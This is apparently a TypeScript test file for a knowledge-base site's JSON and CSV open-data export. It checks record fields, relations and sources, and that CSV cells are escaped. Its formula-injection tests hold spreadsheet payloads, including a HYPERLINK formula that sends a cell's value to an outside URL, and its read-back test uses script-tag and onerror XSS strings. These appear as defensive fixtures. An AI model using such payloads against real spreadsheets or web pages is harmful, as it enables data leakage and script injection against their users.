import { describe, expect, test } from 'vitest';
import { buildGraph } from '../../src/lib/site/graph.ts';
import { entryRecord, toCsv } from '../../src/lib/site/open-data.ts';
import { entryData } from '../helpers/entries.ts';

const entries = (['assumption', 'dilemma'] as const).map((kind) => {
  const data = entryData(kind) as Record<string, unknown> & { id: string; title: string };
  return { kind, id: data.id, slug: data.id.toLowerCase(), url: `/${kind}/${data.id.toLowerCase()}/`, data };
});
const graph = buildGraph(entries);
const site = new URL('https://kennisbank.example/');

describe('entryRecord', () => {
  test('holds every field, absolute URLs and the relations resolved both ways', () => {
    const [assumption, dilemma] = entries.map((entry) => entryRecord(entry, graph, site));
    expect(dilemma).toMatchObject({
      id: 'D-001',
      kind: 'dilemma',
      question: expect.any(String),
      url: 'https://kennisbank.example/dilemma/d-001/',
      permalink: 'https://kennisbank.example/D-001/',
    });
    expect(dilemma!.relations.outgoing['restsOn']).toEqual([
      {
        id: 'A-001',
        kind: 'assumption',
        title: expect.any(String),
        url: 'https://kennisbank.example/assumption/a-001/',
      },
    ]);
    expect(assumption!.relations.incoming['restsOn']?.map((related) => related.id)).toEqual(['D-001']);
  });
});

describe('entryRecord: sources', () => {
  test('carries each source as structured data: title, author, year, publisher and URL', () => {
    const source = {
      title: 'Ongekend onrecht',
      author: 'Parlementaire ondervragingscommissie Kinderopvangtoeslag',
      year: 2020,
      publisher: 'Tweede Kamer',
      url: 'https://www.tweedekamer.nl/ongekend-onrecht',
    };
    const dilemma = { ...entries[1]!, data: { ...entries[1]!.data, sources: [source, { title: 'Participatiewet' }] } };
    const record = entryRecord(dilemma, graph, site);
    expect(JSON.parse(JSON.stringify(record))['sources']).toEqual([source, { title: 'Participatiewet' }]);
  });
});

describe('toCsv', () => {
  test('quotes cells with commas, quotes and line breaks, and joins lists with semicolons', () => {
    const record = entryRecord(entries[1]!, graph, site);
    record['title'] = 'Delen, of "niet"?';
    const [header, row] = toCsv([record]).split('\r\n');
    expect(header).toContain('id,kind,title,summary');
    expect(row).toMatch(/^D-001,dilemma,"Delen, of ""niet""\?",/);
    expect(row).toContain(',A-001,');
  });

  test('CSV formula injection: a title starting with = and cells starting with +, -, @, tab or CR get a leading quote', () => {
    const record = entryRecord(entries[1]!, graph, site);
    record['title'] = '=HYPERLINK("https://example.org/?"&A1,"Klik")';
    record['summary'] = '+1+1';
    record['status'] = '-2+3';
    record['level'] = '@SUM(1,2)';
    record['published'] = '\t=1+1';
    record['updated'] = '\r=1+1';
    record['aliases'] = ['=1+1', 'gewoon'];
    const row = toCsv([record]).split('\r\n')[1]!;
    expect(row).toContain(',"\'=HYPERLINK(""https://example.org/?""&A1,""Klik"")",');
    expect(row).toContain(',"\'+1+1","\'-2+3","\'@SUM(1,2)","\'\t=1+1","\'\r=1+1",');
    expect(row).toContain(',"\'=1+1; gewoon",');
    const [cells] = parseCsv(toCsv([record])).slice(1);
    expect(cells!.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test('leaves cells that start with other characters as they are', () => {
    const record = entryRecord(entries[1]!, graph, site);
    record['title'] = 'Gewoon een titel';
    record['summary'] = 'Een zin met = en - erin';
    const row = toCsv([record]).split('\r\n')[1]!;
    expect(row).toMatch(/^D-001,dilemma,Gewoon een titel,Een zin met = en - erin,/);
  });

  test('reads back, with an independent strict RFC 4180 parser, to the same cells (neutralised ones with their quote)', () => {
    const hostile = [
      '=1+1',
      'Delen, of "niet"?',
      'regel een\r\nregel twee',
      '</script><script>window.__xss=1</script>',
      '"\'><img src=x onerror=window.__xss=2>',
      '-10 procent; @iedereen',
      '',
    ];
    const records = hostile.map((title) => {
      const record = entryRecord(entries[1]!, graph, site);
      record['title'] = title;
      record['aliases'] = [title, 'ander'];
      return record;
    });
    const csv = toCsv(records);
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(csv.split('\r\n')[0]!.split(','));
    expect(rows).toHaveLength(hostile.length);
    const column = (name: string) => header!.indexOf(name);
    const shown = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    expect(rows.map((row) => row[column('title')])).toEqual(hostile.map(shown));
    expect(rows.map((row) => row[column('aliases')])).toEqual(hostile.map((title) => shown(`${title}; ander`)));
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      expect(row[column('id')]).toBe('D-001');
      expect(row[column('restsOn')]).toBe('A-001');
    }
  });
});

/**
 * A strict RFC 4180 reader written apart from toCsv: CRLF between records, fields quoted with
 * `"` and quotes doubled inside; anything else (a stray quote, text after a closing quote, a
 * missing final CRLF) throws.
 */
function parseCsv(csv: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let position = 0;
  while (position < csv.length) {
    let field = '';
    if (csv[position] === '"') {
      position++;
      for (;;) {
        const quote = csv.indexOf('"', position);
        if (quote < 0) throw new Error(`unclosed quote at ${position}`);
        field += csv.slice(position, quote);
        position = quote + 1;
        if (csv[position] !== '"') break;
        field += '"';
        position++;
      }
    } else {
      const end = csv.slice(position).search(/,|\r\n/);
      field = end < 0 ? csv.slice(position) : csv.slice(position, position + end);
      if (/["\r\n]/.test(field)) throw new Error(`unquoted field with a quote or line break: ${JSON.stringify(field)}`);
      position += field.length;
    }
    record.push(field);
    if (csv[position] === ',') {
      position++;
    } else if (csv.startsWith('\r\n', position)) {
      position += 2;
      records.push(record);
      record = [];
    } else {
      throw new Error(`expected , or CRLF at ${position}, found ${JSON.stringify(csv.slice(position, position + 10))}`);
    }
  }
  if (record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}
